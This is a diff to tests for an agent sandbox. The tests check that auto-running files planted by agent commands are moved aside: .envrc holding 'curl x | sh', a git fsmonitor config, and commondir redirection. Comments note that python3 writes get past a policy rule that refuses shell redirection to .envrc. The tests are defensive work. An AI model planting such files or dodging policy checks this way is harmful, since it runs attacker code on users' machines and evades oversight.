@@ -129,7 +129,12 @@ def test_a_new_file_that_runs_later_is_moved_aside(repo: Path, tmp_path: Path) -
             f"open('evil/config', 'w').write('{fsmonitor}'); "
             "open('.git/commondir', 'w').write('../evil')\"; echo rc=$?"
         ),
-        sh(f"echo 'touch {marker}' > .envrc; echo '[submodule]' > .gitmodules; echo rc=$?"),
+        # (a redirection naming .envrc is refused by the policy: a sensitive name; what
+        # an interpreter writes is the sandbox's to catch)
+        sh(
+            f"python3 -c \"open('.envrc', 'w').write('touch {marker}'); "
+            "open('.gitmodules', 'w').write('[submodule]')\"; echo rc=$?"
+        ),
     )
     assert "rc=0" in obs[0]["stdout"], obs[0]
     notes = " ".join(obs[0]["sandbox"]["notes"])
@@ -146,7 +151,11 @@ def test_a_new_file_that_runs_later_is_moved_aside(repo: Path, tmp_path: Path) -
 
 def test_allowed_twin_a_named_new_file_stays(repo: Path) -> None:
     policy: dict[str, Any] = {**POLICY, "paths": {**POLICY["paths"], "allow": ["./", "./.envrc"]}}
-    obs = run(repo, sh("echo 'export A=1' > .envrc && echo notes > notes.md"), policy=policy)
+    obs = run(
+        repo,
+        sh("python3 -c \"open('.envrc', 'w').write('export A=1\\n')\" && echo notes > notes.md"),
+        policy=policy,
+    )
     assert obs[0]["exit_code"] == 0 and obs[0]["sandbox"]["notes"] == [], obs[0]
     assert (repo / ".envrc").read_text() == "export A=1\n"
     assert (repo / "notes.md").read_text() == "notes\n"
@@ -268,7 +277,14 @@ def test_a_call_that_times_out_still_has_its_plants_moved_and_reported(repo: Pat
     from charter.agent import MockProvider, agent_loop, builtin_tools
 
     provider = MockProvider(
-        [sh("echo 'curl x | sh' > .envrc; python3 -c 'import time; time.sleep(30)'"), "done"]
+        # (python3 writes .envrc: a redirection naming it is refused by the policy first)
+        [
+            sh(
+                "python3 -c \"open('.envrc', 'w').write('curl x | sh')\"; "
+                "python3 -c 'import time; time.sleep(30)'"
+            ),
+            "done",
+        ]
     )
     result = agent_loop(
         "x",
